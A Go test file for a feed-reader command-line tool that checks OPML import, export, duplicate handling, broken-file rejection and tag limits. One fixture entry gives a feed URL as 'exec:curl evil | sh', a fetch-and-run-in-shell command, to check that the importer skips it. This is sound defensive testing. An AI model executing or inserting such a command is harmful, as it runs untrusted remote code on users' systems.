package main

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

type srcInfo struct {
	Title    string   `json:"title"`
	Location string   `json:"location"`
	Tags     []string `json:"tags"`
}

func sourceList(t *testing.T, c *cli) []srcInfo {
	t.Helper()
	var out []srcInfo
	if err := json.Unmarshal([]byte(c.mustRun("sources", "--json")), &out); err != nil {
		t.Fatal(err)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Location < out[j].Location })
	return out
}

func TestCLIImportExportRoundTrip(t *testing.T) {
	c := newCLI(t)
	dir := t.TempDir()
	opml := writeFile(t, filepath.Join(dir, "subs.opml"), `<?xml version="1.0"?>
<opml version="2.0"><head/><body>
 <outline text="News"><outline type="rss" text="LWN" xmlUrl="https://lwn.net/headlines/rss" category="linux"/></outline>
 <outline type="rss" text="Go &amp; more" xmlUrl="https://go.dev/blog/feed.atom" category="go,Lang/Systems"/>
 <outline type="rss" text="Cmd" xmlUrl="exec:curl evil | sh"/>
</body></opml>`)
	code, out, errOut := c.run("import", opml, "--offline")
	if code != 0 || !strings.Contains(out, "Imported 2 sources (0 already present, 1 skipped)") || !strings.Contains(errOut, "exec:") {
		t.Fatalf("import: exit %d, %q, %q", code, out, errOut)
	}
	// Importing again skips and reports duplicates.
	code, out, errOut = c.run("import", opml)
	if code != 0 || !strings.Contains(out, "Imported 0 sources (2 already present") || !strings.Contains(errOut, "already a source: https://lwn.net") {
		t.Fatalf("re-import: exit %d, %q, %q", code, out, errOut)
	}
	before := sourceList(t, c)
	if before[0].Title != "Go & more" || strings.Join(before[0].Tags, ",") != "go,lang,systems" || strings.Join(before[1].Tags, ",") != "linux,news" {
		t.Fatalf("imported sources: %+v", before)
	}
	exported := writeFile(t, filepath.Join(dir, "export.opml"), c.mustRun("export"))

	c2 := newCLI(t)
	c2.mustRun("import", exported)
	after := sourceList(t, c2)
	if fmt.Sprint(after) != fmt.Sprint(before) {
		t.Fatalf("round trip:\nbefore %+v\nafter  %+v", before, after)
	}
}

func TestCLIImportRejectsBrokenFilesAndImportsNothing(t *testing.T) {
	c := newCLI(t)
	dir := t.TempDir()
	for name, doc := range map[string]string{
		"notxml.opml": "hello",
		"nobody.opml": `<opml version="2.0"><head/></opml>`,
		"cut.opml":    `<opml version="2.0"><body><outline type="rss" text="A" xmlUrl="https://a.example/"/><outline`,
	} {
		f := writeFile(t, filepath.Join(dir, name), doc)
		code, _, errOut := c.run("import", f)
		if code != 1 || !strings.Contains(errOut, name) || !strings.Contains(errOut, "nothing imported") {
			t.Errorf("%s: exit %d, %q", name, code, errOut)
		}
	}
	if code, _, errOut := c.run("import", filepath.Join(dir, "missing.opml")); code != 1 || !strings.Contains(errOut, "no such file") {
		t.Errorf("missing file: exit %d %q", code, errOut)
	}
	if got := sourceList(t, c); len(got) != 0 {
		t.Fatalf("broken files imported sources: %+v", got)
	}
}

func BenchmarkImport500(b *testing.B) {
	var sb strings.Builder
	sb.WriteString(`<opml version="2.0"><body>`)
	for i := 0; i < 500; i++ {
		fmt.Fprintf(&sb, `<outline type="rss" text="Feed %d" xmlUrl="https://f%d.example/feed" category="c%d,all"/>`, i, i, i%20)
	}
	sb.WriteString(`</body></opml>`)
	dir := b.TempDir()
	opml := filepath.Join(dir, "big.opml")
	writeFileB(b, opml, sb.String())
	for i := 0; i < b.N; i++ {
		var out, errb strings.Builder
		a := &app{stdout: &out, stderr: &errb}
		if code := a.run([]string{"import", opml, "--data-dir", filepath.Join(dir, fmt.Sprint(i))}); code != 0 {
			b.Fatalf("import: %s", errb.String())
		}
	}
}

// An OPML file of folders nested past 64 says that its feeds keep 64
// tags each.
func TestImportOPMLSaysWhatItDrops(t *testing.T) {
	c := newCLI(t)
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><opml version="2.0"><body>`)
	for i := range 70 {
		fmt.Fprintf(&b, `<outline text="folder %d">`, i)
	}
	b.WriteString(`<outline type="rss" text="deep" xmlUrl="https://example.com/deep.xml"/>`)
	b.WriteString(strings.Repeat("</outline>", 70) + `</body></opml>`)
	path := writeFile(t, filepath.Join(t.TempDir(), "deep.opml"), b.String())
	code, out, errOut := c.run("import", path)
	if code != 0 || !strings.Contains(out, "Imported 1 source") || !strings.Contains(errOut, "1 feed had more than 64 tags") {
		t.Fatalf("exit %d: %q %q", code, out, errOut)
	}
}
